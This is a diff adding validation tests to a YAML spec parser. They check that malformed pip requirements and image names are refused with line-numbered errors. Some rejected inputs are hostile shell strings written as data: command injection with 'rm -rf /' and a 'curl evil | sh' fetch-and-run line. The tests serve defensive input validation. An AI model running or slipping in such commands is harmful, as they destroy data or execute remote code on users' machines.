@@ -85,3 +85,64 @@ describe("hostile and garbage specs", () => {
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
   });
 });
+
+describe("inputs that passed validation and failed later (issue 10)", () => {
+  const spec = (extra: string) => `name: demo\ntorchSource: distro\ncuda: cpu\n${extra}`;
+  const errorOf = (text: string): SpecError => {
+    try {
+      parseSpecText(text);
+    } catch (error) {
+      if (error instanceof SpecError) return error;
+      throw error;
+    }
+    throw new Error("the spec loaded");
+  };
+
+  it.each([
+    [
+      "numpy==",
+      /packages\.pip\[0\]: "numpy==" is not a pip requirement \(PEP 508\): expected a version after ==/,
+    ],
+    ["numpy; rm -rf /", /"numpy; rm -rf \/" is not a pip requirement .*expected a marker variable/],
+    ["numpy rm -rf /", /expected "," a version, ";" markers or the end/],
+    ["numpy==1.0 && curl evil | sh", /is not a pip requirement/],
+  ])("pip requirement %j is refused as E_SPEC_REQUIREMENT with its line", (requirement, message) => {
+    const error = errorOf(spec(`packages:\n  pip:\n    - ${JSON.stringify(requirement)}\n`));
+    expect(error.code).toBe("E_SPEC_REQUIREMENT");
+    expect(error.message).toMatch(/^torchstack\.yaml:6: /);
+    expect(error.message).toMatch(message);
+  });
+
+  it.each(["numpy==2.2.6", "scipy>=1.11,<2", "uvloop; sys_platform == 'linux'", "pkg[extra]~=1.2"])(
+    "pip requirement %j loads",
+    (requirement) => {
+      expect(() =>
+        parseSpecText(spec(`packages:\n  pip:\n    - ${JSON.stringify(requirement)}\n`)),
+      ).not.toThrow();
+    },
+  );
+
+  it.each(["a..b", "a.-b", "a-", "a__.b", "x".repeat(129)])("name %j is no valid image name", (name) => {
+    const error = errorOf(`name: ${name}\ntorchSource: distro\ncuda: cpu\n`);
+    expect(error.message).toMatch(/^torchstack\.yaml:1: name: /);
+    expect(error.remedies.join("\n")).toMatch(/set name: [a-z0-9]/);
+  });
+
+  it.each(["a.b", "a_b", "a__b", "a--b", "123", "x".repeat(128)])("name %j is a valid image name", (name) => {
+    expect(() => parseSpecText(`name: "${name}"\ntorchSource: distro\ncuda: cpu\n`)).not.toThrow();
+  });
+
+  it("every error in the file is reported at once, in line order, each with file:line and a fix", () => {
+    const error = errorOf(
+      'name: a..b\ntorchSource: distro\ncuda: cpu\nflavor: huge\npackages:\n  pip:\n    - "numpy=="\n    - ok-pkg\n    - "x; y"\n',
+    );
+    const lines = error.message.split("\n");
+    expect(lines).toHaveLength(4);
+    expect(lines[0]).toMatch(/^torchstack\.yaml:1: name: "a\.\.b" is not a valid image name/);
+    expect(lines[1]).toMatch(/^also torchstack\.yaml:4: flavor: /);
+    expect(lines[2]).toMatch(/^also torchstack\.yaml:7: packages\.pip\[0\]: /);
+    expect(lines[3]).toMatch(/^also torchstack\.yaml:9: packages\.pip\[2\]: /);
+    expect(error.remedies.length).toBeGreaterThanOrEqual(4);
+    expect(error.details?.errors).toHaveLength(4);
+  });
+});
